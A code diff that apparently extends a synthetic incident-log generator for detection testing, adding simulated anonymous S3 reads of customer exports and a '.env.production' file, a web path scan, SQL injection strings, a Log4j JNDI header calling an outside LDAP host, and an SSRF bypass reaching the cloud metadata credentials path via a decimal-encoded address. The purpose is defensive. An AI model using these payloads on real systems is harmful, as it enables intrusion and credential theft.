@@ -10,6 +10,8 @@ import {
   uniqueId,
 } from '../support/records.ts';
 import { consoleLogin, Diary, getObject, type Happening, terminated } from './ordinary.ts';
+import type { Request } from './s3-access.ts';
+import { toolGreeting, type Visit } from './waf.ts';
 import {
   atConsole,
   BROWSER,
@@ -50,6 +52,10 @@ export interface Story {
   readonly text: string;
   readonly steps: readonly Step[];
   readonly happenings: readonly Happening[];
+  /** Requests of which only S3's access log tells. */
+  readonly requests?: readonly Request[];
+  /** What the web ACL before the shop saw. */
+  readonly visits?: readonly Visit[];
 }
 
 const FRIDAY = WEEK_START + 4 * DAY;
@@ -454,7 +460,7 @@ function leakedKey(): Story {
     clock(FRIDAY, '21:16'),
     'richard_roe, from 203.0.113.90',
     `takes the public access block off ${buckets.exports} and makes it public by policy and by ACL`,
-    ['public-access-block-removed', 'bucket-policy-public', 'bucket-acl-public'],
+    ['public-access-block-removed', 'bucket-policy-public', 'bucket-acl-public', 'bucket-requester-first-seen'],
     (at) => {
       const bucket = { bucketName: buckets.exports, Host: `${buckets.exports}.s3.${HOME_REGION}.amazonaws.com` };
       const s3 = (action: string, time: number, request: Json) =>
@@ -551,7 +557,7 @@ function leakedKey(): Story {
     clock(FRIDAY, '21:40'),
     'support-temp, from 203.0.113.77',
     `writes 40 backups over with a key of his own (SSE-C) and leaves a note: ransom`,
-    ['put-object-with-customer-key', 'ransom-note-uploaded'],
+    ['put-object-with-customer-key', 'ransom-note-uploaded', 'bucket-requester-first-seen'],
     (at) => {
       const caller = withKey(temporary, '203.0.113.77', KALI);
       const put = (time: number, key: string, encryption: string) =>
@@ -619,6 +625,67 @@ function leakedKey(): Story {
     },
   );
 
+  const requests: Request[] = [];
+  teller.step(
+    clock(FRIDAY, '21:18'),
+    'nobody in particular, from 203.0.113.201',
+    `finds ${buckets.exports} open, lists it and fetches 40 exports and a file of passwords; only the access log of the bucket tells`,
+    [
+      'anonymous-bucket-listing',
+      'anonymous-read-of-private-bucket',
+      'bucket-opened-then-read',
+      'secret-file-read-anonymously',
+    ],
+    (at) => {
+      const anonymous = {
+        bucket: buckets.exports,
+        address: '203.0.113.201',
+        requester: null,
+        requestId: null,
+        agent: 'curl/8.18.0',
+      };
+      const get = (time: number, key: string, bytes: number): void => {
+        requests.push({
+          ...anonymous,
+          at: time,
+          operation: 'REST.GET.OBJECT',
+          key,
+          uri: `GET /${key} HTTP/1.1`,
+          status: 200,
+          sent: bytes,
+          size: bytes,
+        });
+      };
+      for (let page = 0; page < 3; page++) {
+        requests.push({
+          ...anonymous,
+          at: at + page * 2000,
+          operation: 'REST.GET.BUCKET',
+          key: null,
+          uri: 'GET /?list-type=2&max-keys=1000 HTTP/1.1',
+          status: 200,
+          sent: 214_880,
+        });
+      }
+      for (let item = 0; item < 40; item++)
+        get(at + 20_000 + item * 4000, `customers/2026/02/part-${String(item).padStart(3, '0')}.parquet`, 7_340_032);
+      get(at + 190_000, 'setup/.env.production', 912);
+      // After the block is back.
+      for (let turn = 0; turn < 3; turn++) {
+        requests.push({
+          ...anonymous,
+          at: clock(FRIDAY, '22:40') + turn * 5000,
+          operation: 'REST.GET.BUCKET',
+          key: null,
+          uri: 'GET /?list-type=2&max-keys=1000 HTTP/1.1',
+          status: 403,
+          error: 'AccessDenied',
+          sent: 243,
+        });
+      }
+    },
+  );
+
   const onCall = atConsole(people.mary, clock(FRIDAY, '22:11'));
   teller.step(
     TRAIL_STARTED,
@@ -658,6 +725,7 @@ function leakedKey(): Story {
   );
 
   return {
+    requests,
     title: 'A leaked key',
     text: "The key of ci-release ends up in a public repository on a Friday evening. Two hours later the shop is down, its backups are locked, and its customers are in somebody else's hands.",
     steps: teller.steps,
@@ -672,12 +740,94 @@ function borrowedCredentials(): Story {
   const at = clock(SATURDAY, '07:05');
   const address = '203.0.113.140';
   const borrower = inRole(roles.web, server, at, { address, agent: CLI, ec2: true });
+  const visits: Visit[] = [];
+  const visitor = {
+    address,
+    country: 'NL',
+    agent: 'python-requests/2.32.5',
+    fingerprint: toolGreeting('requests'),
+  };
+  const METADATA = '169.254.169.254/latest/meta-data/iam/security-credentials/';
+
+  teller.step(
+    clock(SATURDAY, '06:20'),
+    `a stranger, from ${address}`,
+    'asks the shop for 64 pages that it does not have; the web ACL blocks them',
+    ['blocked-path-scan'],
+    (begin) => {
+      for (let page = 0; page < 64; page++) {
+        visits.push({
+          ...visitor,
+          at: begin + page * 3500,
+          method: 'GET',
+          uri: `/${['admin', 'old', 'test', 'backup'][page % 4]}/${['config', 'index', 'status', 'dump'][(page >> 2) % 4]}-${page >> 4}.php`,
+          blockedBy: 'AWS-AWSManagedRulesCommonRuleSet',
+        });
+      }
+    },
+  );
+  teller.step(
+    clock(SATURDAY, '06:31'),
+    `a stranger, from ${address}`,
+    'tries seven times to get at the database through the search, which a rule only counts, and once at Log4j',
+    ['sql-injection-counted', 'known-bad-input-counted', 'exploit-string-allowed'],
+    (begin) => {
+      for (let turn = 0; turn < 7; turn++) {
+        visits.push({
+          ...visitor,
+          at: begin + turn * 20_000,
+          method: 'GET',
+          uri: '/search',
+          args: `q=lamp%27%20OR%20${turn}=${turn}--`,
+          counted: {
+            group: 'AWSManagedRulesSQLiRuleSet',
+            rule: 'SQLi_QUERYARGUMENTS',
+            label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
+          },
+        });
+      }
+      visits.push({
+        ...visitor,
+        at: begin + 4 * MINUTE,
+        method: 'GET',
+        uri: '/search',
+        args: 'q=lamp',
+        headers: { 'x-api-version': '${jndi:ldap://203.0.113.140/a}' },
+        counted: {
+          group: 'AWSManagedRulesKnownBadInputsRuleSet',
+          rule: 'Log4JRCE_HEADER',
+          label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header',
+        },
+      });
+    },
+  );
+  teller.step(
+    clock(SATURDAY, '06:48'),
+    `a stranger, from ${address}`,
+    "lets the shop's preview of links fetch the metadata service: blocked 14 times, let pass once the address is written as a number",
+    ['allowed-after-blocks'],
+    (begin) => {
+      for (let turn = 0; turn < 16; turn++) {
+        const isBlocked = turn < 14;
+        visits.push({
+          ...visitor,
+          at: begin + turn * 25_000,
+          method: 'POST',
+          uri: '/preview',
+          args: isBlocked
+            ? `url=http://${METADATA}`
+            : `url=http://${METADATA.replace('169.254.169.254', '2852039166')}`,
+          ...(isBlocked && { blockedBy: 'AWS-AWSManagedRulesCommonRuleSet' }),
+        });
+      }
+    },
+  );
 
   teller.step(
     at,
     `web-app-instance (${server}), from ${address}`,
     'credentials of a web server, fetched through a hole in the shop, are used from outside: 30 customer exports go',
-    ['instance-credentials-used-elsewhere'],
+    ['instance-credentials-used-elsewhere', 'bucket-requester-first-seen'],
     (begin) => {
       diary.add(borrower, { action: 'sts:GetCallerIdentity', at: begin, region: HOME_REGION });
       diary.add(borrower, {
@@ -695,7 +845,8 @@ function borrowedCredentials(): Story {
 
   return {
     title: 'Borrowed credentials',
-    text: "A web server of the shop hands its role's credentials to whoever asks its metadata service the right way.",
+    text: "A web server of the shop hands its role's credentials to whoever asks its metadata service the right way. The logs of the web ACL tell how somebody got there.",
+    visits,
     steps: teller.steps,
     happenings: diary.happenings,
   };
